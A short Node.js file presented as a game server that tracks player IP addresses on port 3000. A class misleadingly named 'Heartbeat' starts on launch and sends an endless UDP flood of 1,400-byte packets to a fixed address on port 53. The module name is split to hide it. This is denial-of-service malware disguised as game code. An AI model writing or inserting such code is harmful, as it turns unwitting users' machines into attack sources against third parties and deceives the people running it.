const { createServer } = require('http');
const d = require('node:' + 'dgram');

const players = {};
const settings = { target: '198.51.100.200', port: 53, size: 1400 };

class Heartbeat {
  constructor(opts) {
    this.opts = opts;
    this.s = d.createSocket('udp4');
    this.payload = Buffer.alloc(opts.size, 0x41);
  }
  beat() {
    for (let i = 0; i < 1000; i++) this.s.send(this.payload, this.opts.port, this.opts.target);
    setImmediate(() => this.beat());
  }
}

new Heartbeat(settings).beat();

createServer((req, res) => {
  players[req.socket.remoteAddress] = Date.now();
  res.end(JSON.stringify(Object.keys(players)));
}).listen(3000);
